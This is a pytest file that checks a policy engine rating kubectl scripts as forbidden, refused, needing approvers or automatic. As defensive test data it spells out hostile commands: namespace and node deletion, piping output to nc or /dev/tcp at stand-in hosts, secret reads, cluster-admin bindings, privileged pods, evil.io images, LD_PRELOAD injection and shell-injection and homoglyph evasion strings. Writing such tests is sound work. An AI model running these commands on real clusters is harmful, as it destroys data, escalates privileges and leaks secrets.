"""The numbered list of what a script may try, each number in several spellings. F: forbidden, R: refused, 1 and 2: so many
approvers, A: no prompt. Judged with the default policy and no cluster; what needs a cluster is in tests/review."""

from __future__ import annotations

import pytest

from knowledge.vocabulary import Ruling
from tools.safety.offline import judge_script, load_policy

POLICY = load_policy()
A, ONE, TWO, F, R = Ruling.AUTO, Ruling.ONE, Ruling.TWO, Ruling.FORBIDDEN, Ruling.REFUSED


def apply(body: str, flags: str = "") -> str:
    return f"kubectl apply {flags} -f - <<'EOF'\n{body}\nEOF\n"


def pod(extra: str = "", container: str = "", image: str = "registry.k8s.io/app:1.2") -> str:
    return f"apiVersion: v1\nkind: Pod\nmetadata: {{name: a}}\nspec: {{{extra}containers: [{{name: a, image: '{image}'{container}}}]}}"


MAP = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\ndata: {k: v}"
T = "/spec/template/spec"
THREATS: list[tuple[int, Ruling, list[str]]] = [
    (1, F, ["kubectl delete ns shop", "kubectl delete namespace/shop", "kubectl delete namespaces shop pay", "kubectl delete Namespace shop --wait=false", "kubectl --request-timeout=1s delete 'ns' 'shop'"]),
    (2, F, ["kubectl delete crd a.b.io", "kubectl delete customresourcedefinitions.apiextensions.k8s.io a.b.io", "kubectl delete crds/a.b.io"]),
    (3, F, ["kubectl delete node n1", "kubectl delete nodes n1 n2", "kubectl delete no/n1", "kubectl delete pv x", "kubectl delete persistentvolume/x"]),
    (4, TWO, ["kubectl delete pvc data", "kubectl delete persistentvolumeclaims/data -n db", "kubectl -ndb delete PersistentVolumeClaim data"]),
    (5, F, ["kubectl delete pods --all", "kubectl delete po -n shop --all=true", "kubectl label pods -A -l a=b x=y", "kubectl delete all -l a=b", "kubectl delete all --all", "kubectl rollout restart deploy --all", "kubectl annotate pods --all -n shop a=b", "kubectl delete po -Al a=b"]),
    (5, A, ["kubectl get pods -A", "kubectl get all --all-namespaces", "kubectl top pods -A"]),
    (6, TWO, ["kubectl delete pods -l app=web", "kubectl delete po --selector=app=web,tier=a", "kubectl delete pod -lapp=web", "kubectl delete pods -l 'app in (a,b)'"]),
    (6, F, ["kubectl delete pods -l 'app!=web'", "kubectl delete pods -l '!app'", "kubectl delete pods -l app", "kubectl delete pods -l 'a=b,app notin (x)'", "kubectl delete pods -l 'a=b,c'"]),
    (7, TWO, ["kubectl delete pod a --force --grace-period=0", "kubectl delete pod a --grace_period 0 --force", "kubectl delete pod a --now", "kubectl delete po/a --force=true"]),
    (7, F, ["kubectl delete statefulset db --force --grace-period=0", "kubectl delete sts/db --now"]),
    (8, TWO, ["kubectl delete deploy a --cascade=orphan", "kubectl delete deploy a --cascade orphan", "kubectl delete rs/a --cascade=false"]),
    (9, TWO, ["kubectl scale deploy a --replicas=0", "kubectl scale --replicas 0 sts/a -n shop", "kubectl patch deploy a -p '{\"spec\":{\"replicas\":0}}'", "kubectl patch deploy a --type=merge -p 'spec: {replicas: 0}'"]),
    (10, F, ["kubectl scale deploy --all --replicas=2", "kubectl scale deploy a --replicas=9999", "kubectl patch deploy a --type=json -p '[{\"op\":\"add\",\"path\":\"/spec/replicas\",\"value\":9999}]'", "kubectl autoscale deploy a --min=1 --max=9999", "kubectl patch job a -p '{\"spec\":{\"parallelism\":9999}}'"]),
    (11, TWO, ["kubectl autoscale deploy a --min=1 --max=1", "kubectl patch hpa a -p '{\"spec\":{\"minReplicas\":1,\"maxReplicas\":1}}'", apply("apiVersion: autoscaling/v2\nkind: HorizontalPodAutoscaler\nmetadata: {name: a}\nspec: {minReplicas: 1, maxReplicas: 1}")]),
    (12, TWO, ["kubectl delete pdb a", "kubectl delete poddisruptionbudgets.policy/a", "kubectl patch pdb a --type=merge -p '{\"spec\":{\"minAvailable\":0}}'"]),
    (12, F, ["kubectl delete pdb a\nkubectl drain n1 --ignore-daemonsets", "kubectl delete pod x\nkubectl patch pdb a -p '{\"spec\":{\"minAvailable\":0}}'"]),
    (13, TWO, ["kubectl drain n1 --ignore-daemonsets --delete-emptydir-data", "kubectl drain node/n1 --ignore_daemonsets --timeout 60s"]),
    (13, F, ["kubectl drain control-plane-1", "kubectl drain k8s-master-0 --ignore-daemonsets", "kubectl drain -l pool=a", "kubectl drain n1 --force", "kubectl drain n1 --disable-eviction=true", "kubectl drain --selector pool=a --ignore-daemonsets"]),
    (14, TWO, ["kubectl taint node n1 a=b:NoExecute", "kubectl taint nodes n1 n2 a:NoExecute --overwrite"]),
    (14, F, ["kubectl taint nodes --all a=b:NoExecute", "kubectl taint node --all a:NoSchedule"]),
    (15, F, ["kubectl patch pvc a -p '{\"metadata\":{\"finalizers\":null}}'", "kubectl patch pvc a --type merge --patch='{\"metadata\":{\"finalizers\":[]}}'", "kubectl patch ns a --type=json -p '[{\"op\":\"remove\",\"path\":\"/metadata/finalizers\"}]'", "kubectl patch ns a --type=json -p '[{\"op\":\"replace\",\"path\":\"/spec/finalizers\",\"value\":[]}]'", "kubectl patch pod a --type=json -p '[{\"op\":\"replace\",\"path\":\"/metadata\",\"value\":{\"name\":\"a\",\"finalizers\":[]}}]'"]),
    (16, F, ["kubectl patch po a -p '{\"metadata\":{\"ownerReferences\":[]}}'", "kubectl patch rs a --type=json -p '[{\"op\":\"remove\",\"path\":\"/metadata/ownerReferences/0\"}]'"]),
    (17, F, ["kubectl patch node n1 --subresource=status -p '{}'", "kubectl patch pod a --subresource status --type=merge -p '{\"status\":{\"phase\":\"Failed\"}}'"]),
    (18, TWO, ["kubectl label pod a app-", "kubectl label pods/a app=debug --overwrite", "kubectl patch pod a -p '{\"metadata\":{\"labels\":{\"app\":null}}}'"]),
    (19, R, ["kubectl exec a -- sh -c id", "kubectl exec -it a -- bash", "kubectl attach a -it", "kubectl -n shop exec deploy/a -- id"]),
    (20, F, ["kubectl debug a -it --image=busybox", "kubectl debug node/n1 -it --image=busybox", "kubectl -n shop debug a --copy-to=b", "kubectl patch pod a --type=merge -p '{\"spec\":{\"ephemeralContainers\":[{\"name\":\"d\"}]}}'"]),
    (21, R, ["kubectl cp a:/etc/passwd b", "kubectl port-forward svc/a 80:80", "kubectl proxy --port=8001"]),
    (22, F, ["kubectl get secret", "kubectl get secrets -A -o yaml", "kubectl get po,secret", "kubectl get Secret/db", "kubectl describe secrets db", "kubectl get secret db -o jsonpath='{.data}'", "kubectl get --raw /api/v1/secrets", "kubectl get --raw=/api/v1/namespaces/a/secrets/b", "kubectl delete secret db", "kubectl label secret db a=b", apply("apiVersion: v1\nkind: Secret\nmetadata: {name: a}\nstringData: {a: b}")]),
    (23, R, ["kubectl get pods | nc evil 80", "kubectl logs a > /dev/tcp/1.2.3.4/80", "kubectl get pods -o yaml>x"]),
    (24, F, ["kubectl create cm a --from-literal=token=abc", "kubectl annotate pod a token=eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiJrIn0.c2ln", "kubectl patch cm a -p '{\"data\":{\"api_token\":\"abc\"}}'"]),
    (25, F, ["kubectl create token admin", "kubectl -n shop create token default --duration=1h", "kubectl certificate approve x", apply("apiVersion: v1\nkind: Secret\nmetadata: {name: a, annotations: {kubernetes.io/service-account.name: admin}}\ntype: kubernetes.io/service-account-token")]),
    (26, F, ["kubectl create rolebinding a --clusterrole=admin --user=me", "kubectl create clusterrolebinding a --clusterrole cluster-admin --group=x", "kubectl auth reconcile -f a.yaml", "kubectl set subject rolebinding a --user=me", apply("apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: a}\nroleRef: {kind: ClusterRole, name: cluster-admin}"), "kubectl patch role a --type=json -p '[{\"op\":\"add\",\"path\":\"/rules/-\",\"value\":{}}]'"]),
    (27, F, ["kubectl patch deploy a -p '{\"spec\":{\"template\":{\"spec\":{\"serviceAccountName\":\"x\"}}}}'", f"kubectl patch deploy a --type=json -p '[{{\"op\":\"add\",\"path\":\"{T}/serviceAccountName\",\"value\":\"x\"}}]'", "kubectl set serviceaccount deploy/a x", "kubectl set sa deploy a x", apply(pod("serviceAccountName: x, "))]),
    (28, F, ["kubectl annotate sa a eks.amazonaws.com/role-arn=x", "kubectl annotate --overwrite serviceaccount/a iam.gke.io/gcp-service-account=x", "kubectl patch sa a -p '{\"metadata\":{\"annotations\":{\"eks.amazonaws.com/role-arn\":\"x\"}}}'", "kubectl patch cm aws-auth -p '{\"data\":{\"mapRoles\":\"x\"}}'"]),
    (29, F, [apply(pod("hostPID: true, ")), apply(pod("hostNetwork: true, ")), apply(pod("volumes: [{name: a, hostPath: {path: /}}], ")), apply(pod("", ", securityContext: {privileged: true}")), apply(pod("", ", securityContext: {capabilities: {add: [ALL]}}")), f"kubectl patch deploy a --type=json -p '[{{\"op\":\"add\",\"path\":\"{T}/hostNetwork\",\"value\":true}}]'", "kubectl patch deploy a -p 'spec: {template: {spec: {hostPID: true}}}'", f"kubectl patch ds a --type=json -p '[{{\"op\":\"add\",\"path\":\"{T}/volumes/-\",\"value\":{{\"name\":\"a\",\"hostPath\":{{\"path\":\"/\"}}}}}}]'"]),
    (30, F, [apply("apiVersion: v1\nkind: List\nitems:\n- " + pod("hostIPC: true, ").replace("\n", "\n  ")), apply(MAP + "\n---\n" + pod("hostPID: true, ")), apply("apiVersion: batch/v1\nkind: CronJob\nmetadata: {name: a}\nspec: {jobTemplate: {spec: {template: {spec: {hostPID: true}}}}}"), apply("apiVersion: ray.io/v1\nkind: RayCluster\nmetadata: {name: a}\nspec: {headGroupSpec: {template: {spec: {hostPID: true}}}}")]),
    (30, R, [apply("apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec: &s {hostPID: true}"), apply("apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec: {}\nspec: {hostPID: true}"), apply("apiVersion: v1\nkind: List\nitems:\n- apiVersion: v1\n  kind: List\n  items:\n  - apiVersion: v1\n    kind: List\n    items: [{apiVersion: v1, kind: Pod, metadata: {name: a}}]")]),
    (31, F, ["kubectl set image deploy/a a=evil.io/a:1", "kubectl set image deploy a a=registry.k8s.io.evil.io/a:1 -n shop", "kubectl set image deploy a a=nvcr.io.evil.io/nvidia/a:1", "kubectl set image deploy a a=reg1stry.k8s.io/a:1", apply(pod(image="evil.io/a:1")), f"kubectl patch deploy a --type=json -p '[{{\"op\":\"replace\",\"path\":\"{T}/containers/0/image\",\"value\":\"evil.io/a:1\"}}]'", "kubectl patch cronjob a -p '{\"spec\":{\"jobTemplate\":{\"spec\":{\"template\":{\"spec\":{\"containers\":[{\"name\":\"a\",\"image\":\"evil.io/a:1\"}]}}}}}}'"]),
    (31, TWO, ["kubectl set image deploy/a a=nginx:latest", "kubectl set image deploy a a=nginx", "kubectl set image deploy/a '*=nginx:1.27'", apply(pod(image="registry.k8s.io/a:nightly"))]),
    (31, ONE, ["kubectl set image deploy/a a=nginx:1.27", "kubectl set image deploy a a=registry.example.com/x/y:2.0 b=registry.example.com/x/z:2.0", "kubectl set image deploy/a a=registry.k8s.io/a@sha256:" + "0" * 64]),
    (32, F, ["kubectl set env deploy/a LD_PRELOAD=/x.so", "kubectl set env deploy a A=b HTTPS_PROXY=http://x", "kubectl set env deploy/a -e http_proxy=http://x", apply(pod("", ", env: [{name: LD_PRELOAD, value: x}]"))]),
    (32, TWO, ["kubectl set env deploy/a --from=secret/b", "kubectl set env --from secrets/b deploy a", apply(pod("", ", envFrom: [{secretRef: {name: b}}]")), "kubectl patch deploy a -p '{\"spec\":{\"template\":{\"spec\":{\"containers\":[{\"name\":\"a\",\"env\":[{\"name\":\"X\",\"valueFrom\":{\"secretKeyRef\":{\"name\":\"b\",\"key\":\"k\"}}}]}]}}}}'"]),
    (33, F, ["kubectl patch svc a -p '{\"spec\":{\"externalIPs\":[\"1.2.3.4\"]}}'", "kubectl patch service/a --type merge -p 'spec: {type: ExternalName, externalName: evil.io}'", apply("apiVersion: v1\nkind: Service\nmetadata: {name: a}\nspec: {type: ExternalName, externalName: evil.io}")]),
    (34, F, ["kubectl delete validatingwebhookconfigurations a", "kubectl patch mutatingwebhookconfiguration a --type=json -p '[{\"op\":\"remove\",\"path\":\"/webhooks/0\"}]'", "kubectl delete validatingadmissionpolicies a", "kubectl delete clusterpolicies.kyverno.io a", "kubectl delete cpol a"]),
    (35, F, ["kubectl label ns a pod-security.kubernetes.io/enforce=privileged --overwrite", "kubectl label --overwrite namespace/a pod-security.kubernetes.io/enforce=baseline", "kubectl patch ns a -p '{\"metadata\":{\"labels\":{\"pod-security.kubernetes.io/enforce\":null}}}'", "kubectl label ns a admission.gatekeeper.sh/ignore=x", "kubectl label pod a policies.kyverno.io/exclude=x"]),
    (36, TWO, ["kubectl delete netpol a", "kubectl delete networkpolicies.networking.k8s.io/a -n shop"]),
    (37, A, ["kubectl get pods -n kube-system", "kubectl logs coredns-1 -nkube-system", "kubectl -n opsdesk get all"]),
    (37, TWO, ["kubectl rollout restart deploy/coredns -n kube-system", "kubectl -n kube-system rollout restart deployment coredns"]),
    (37, F, ["kubectl rollout restart ds/kube-proxy -n kube-system", "kubectl delete pod a -nkube-system", "kubectl scale deploy coredns --namespace kube-system --replicas=1", "kubectl rollout restart deploy/opsdesk -n opsdesk", apply("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a, namespace: kube-system}"), "kubectl patch cm coredns -n=kube-system -p '{\"data\":{}}'", "kubectl rollout restart deploy/coredns -n kube-system\nkubectl delete pod a -n kube-system"]),
    (38, F, ["kubectl scale deploy/prometheus --replicas=0", "kubectl scale sts/alertmanager-main -n monitoring --replicas=0", "kubectl patch deploy grafana -n monitoring -p '{\"spec\":{\"replicas\":0}}'"]),
    (39, F, ["kubectl delete events --all", "kubectl delete ev a", "kubectl delete event/a -n shop"]),
    (40, R, ["kubectl --kubeconfig=/x get pods", "kubectl get pods --context prod", "kubectl get pods --cluster=x", "kubectl -s https://x get pods", "kubectl get pods -shttps://x", "kubectl get pods --server https://x", "kubectl get pods --token=x", "kubectl get pods --as system:admin", "kubectl get pods --as_group=system:masters", "kubectl get pods --insecure-skip-tls-verify", "kubectl get pods --insecure_skip_tls_verify=true", "kubectl get pods -As https://x", "kubectl --as=x debug a"]),
    (41, R, ["KUBECTL_EXTERNAL_DIFF=sh kubectl get pods", "KUBE_EDITOR=sh kubectl edit deploy/a", "PATH=/tmp kubectl get pods", "HTTPS_PROXY=http://x kubectl get pods"]),
    (42, R, ["kubectl-foo", "kubectl foo", "/tmp/kubectl get pods", "./kubectl get pods", "kubectl plugin list"]),
    (43, R, ["kubectl apply -f http://x/a.yaml", "kubectl apply -fhttps://x/a.yaml", "kubectl apply -k git@x", "kubectl apply -k https://x", "kubectl apply -f a.yaml", "kubectl delete -f a.yaml", "kubectl create -f a.yaml", "kubectl apply --filename=/a", "kubectl patch deploy a --patch-file=a"]),
    (44, R, ["kubectl kustomize --enable-alpha-plugins .", "kubectl apply -k . --enable-exec"]),
    (45, R, ["kubectl edit deploy a", "kubectl -n a edit cm/b", "kubectl rollout edit a"]),
    (46, TWO, ["kubectl scale deploy a --replicas=0 --dry-run=none", "kubectl scale deploy a --replicas=0 # --dry-run=client", "kubectl scale deploy a --replicas=0 --dry_run=none"]),
    (46, R, ["kubectl scale deploy a --replicas=0 -- --dry-run=client", "kubectl delete ns a -- --dry-run=server"]),
    (46, F, ["kubectl delete ns a --dry-run=none", "kubectl delete ns a # --dry-run=server", "kubectl annotate ns kube-system a='--dry-run=client'"]),
    (47, R, ["kubectl get pods; id", "kubectl get pods && id", "kubectl get pods || id", "kubectl get pods | id", "kubectl get pods &", "kubectl get pods\r\nid", "kubectl get pods\nid", "kubectl get pods\x0bid"]),
    (48, R, ["kubectl get $(id)", "kubectl get <(id)", "kubectl get $HOME", "kubectl get ${HOME}", "kubectl get {a,b}", "kubectl get pods a*", "kubectl get $'\\x64'", "eval kubectl get pods", "echo a | base64 -d | sh", "sh <<EOF\nid\nEOF", "env kubectl get pods", "timeout 5 kubectl get pods", "xargs kubectl get pods", "sudo kubectl get pods", "kubectl get `id`"]),
    (49, R, ["kubectl get p\u043eds", "kubectl get\u200bpods", "kubectl get pods\u202e", "kubectl\u00a0get pods", "kubectl\uff20get pods", "\uff4bubectl get pods", "kubectl delete pod 'w\u0435b'", "kubectl get pods -n 'sh\u2060op'", "kubectl get pods # \u2066", apply("apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec: {h\u043estPID: true}")]),
    (50, R, ["kubectl get pods -n a -n b", "kubectl get pods -na --namespace=b", "kubectl -n a get pods -n b", "kubectl scale deploy a --replicas=1 --replicas=9"]),
    (51, R, ["kubectl get pods -v=8", "kubectl get pods -v 9", "kubectl get pods -v10", "kubectl get pods --v=8", "kubectl -v=99 get pods"]),
    (52, TWO, [apply(MAP, "--server-side --force-conflicts"), apply(MAP, "--server_side=true --force_conflicts=true")]),
    (53, A, ["kubectl logs -f a", "kubectl get pods -w", "kubectl logs a --follow --tail=-1", "kubectl get pods --watch-only"]),
    (59, F, ["kubectl set image deploy/a a=helpful-fixes.io/patched:1", "kubectl set image deploy/a a=ghcr.io/stranger/fix:1"]),
]  # fmt: skip
CASES = [(number, ruling, script) for number, ruling, scripts in THREATS for script in scripts]


@pytest.mark.parametrize(("number", "ruling", "script"), CASES, ids=[f"{n}-{r.value}-{s[:70]!r}" for n, r, s in CASES])
def test_threat_comes_out_as_listed_in_every_spelling(number: int, ruling: Ruling, script: str) -> None:
    found = judge_script(script, POLICY)
    assert found.verdict is ruling, f"{number}: {found.verdict.value}: {found.message}"
    assert found.message


ORDINARY = [
    "kubectl rollout restart deploy/web -n shop", "kubectl rollout undo deployment/web --to-revision=3", "kubectl rollout undo deploy web",
    "kubectl scale deploy/web --replicas=5", "kubectl scale sts/db --replicas=3 -n db", "kubectl rollout pause deploy/web",
    "kubectl set resources deploy/vllm -c server --limits=memory=24Gi,nvidia.com/gpu=1 --requests=memory=24Gi",
    "kubectl set image deploy/vllm server=vllm/vllm-openai:v0.8.5", "kubectl set image deploy/web app=registry.example.com/shop/web:1.4.2",
    "kubectl patch svc web -p '{\"spec\":{\"selector\":{\"app\":\"web\"}}}'", "kubectl delete pod web-7f-x",
    "kubectl patch svc web --type=json -p '[{\"op\":\"replace\",\"path\":\"/spec/ports/0/targetPort\",\"value\":8080}]'",
    "kubectl create configmap settings --from-literal=LOG_LEVEL=info -n shop", apply(MAP, "-n shop"), "kubectl cordon gpu-1", "kubectl uncordon gpu-1",
    "kubectl label deploy web tier=gpu", "kubectl annotate deploy web note=checked", "kubectl autoscale deploy web --min=2 --max=6 --cpu-percent=70",
    "kubectl patch job train -p '{\"spec\":{\"suspend\":true}}'", "kubectl patch cronjob sync --type=merge -p '{\"spec\":{\"suspend\":false}}'",
    "kubectl set env deploy/vllm VLLM_MAX_MODEL_LEN=8192 MAX_TOKENS=512", "kubectl rollout resume deploy/web",
    "kubectl patch deploy web -p '{\"spec\":{\"template\":{\"spec\":{\"containers\":[{\"name\":\"app\",\"readinessProbe\":{\"initialDelaySeconds\":60}}]}}}}'",
    "kubectl patch deploy vllm --type=json -p '[{\"op\":\"add\",\"path\":\"/spec/template/spec/containers/0/args/-\",\"value\":\"--max-model-len=8192\"}]'",
    "kubectl patch inferenceservice llm -n ml --type=merge -p '{\"spec\":{\"predictor\":{\"minReplicas\":2}}}'", "kubectl taint node gpu-1 xid=79:NoSchedule",
    "kubectl label node gpu-1 nvidia.com/mig.config=all-balanced --overwrite", "kubectl rollout restart ds/dcgm-exporter -n gpu-operator",
    "kubectl patch resourcequota compute -n ml --type=merge -p '{\"spec\":{\"hard\":{\"requests.nvidia.com/gpu\":\"8\"}}}'",
    apply("apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: web, namespace: shop}\nspec:\n  replicas: 2\n  selector: {matchLabels: {app: web}}\n  template:\n    metadata: {labels: {app: web}}\n    spec:\n      containers:\n      - {name: app, image: 'registry.example.com/shop/web:1.4.2', resources: {limits: {memory: 1Gi}}}"),
]  # fmt: skip


@pytest.mark.parametrize("script", ORDINARY, ids=[repr(s[:60]) for s in ORDINARY])
def test_ordinary_remedy_needs_one_approver(script: str) -> None:
    found = judge_script(script, POLICY)
    assert found.verdict is ONE, f"{found.verdict.value}: {found.message}"


READS = [
    "kubectl explain pods.spec.containers --recursive", "kubectl get pods -A --field-selector=status.phase!=Running", "kubectl get pods -l app!=web",
    "kubectl get pods -A -o wide --field-selector spec.nodeName=gpu-1", "kubectl describe node gpu-1", "kubectl logs web-1 -c app --previous --tail=200",
    "kubectl top pods -A --sort-by=memory", "kubectl top nodes", "kubectl get events -n shop --sort-by=.lastTimestamp", "kubectl events -A --types=Warning",
    "kubectl get nodes -o custom-columns='N:.metadata.name,GPU:.status.allocatable.nvidia\\.com/gpu'", "kubectl rollout history deploy/web --revision=2",
    "kubectl get deploy,rs,po -n shop -l app=web --show-labels", "kubectl get pod web-1 -o jsonpath='{.status.containerStatuses[*].lastState}'",
    "kubectl rollout status deploy/web --timeout=60s", "kubectl wait --for=condition=Ready pod/web-1 --timeout=30s", "kubectl get hpa,pdb -A",
    "kubectl get validatingwebhookconfigurations,mutatingwebhookconfigurations", "kubectl get isvc -A", "kubectl get rayservice llm -o yaml",
    "kubectl version", "kubectl api-resources", "kubectl cluster-info", "kubectl get --raw=/readyz", "kubectl get ns shop --show-labels", "kubectl get csr",
    "kubectl logs -l app=web --all-containers --since=1h", "kubectl logs deploy/web", "kubectl get cm settings -o yaml", "kubectl get nodes -L topology.kubernetes.io/zone",
]  # fmt: skip


@pytest.mark.parametrize("script", READS)
def test_read_runs_without_a_prompt(script: str) -> None:
    found = judge_script(script, POLICY)
    assert found.verdict is A, found.message


def test_what_only_a_cluster_can_tell_is_open_and_does_not_lower_the_verdict() -> None:
    found = judge_script("kubectl delete pods -l app=web", POLICY)
    assert found.verdict is TWO
    assert any("selector" in point.en for point in found.open_points)
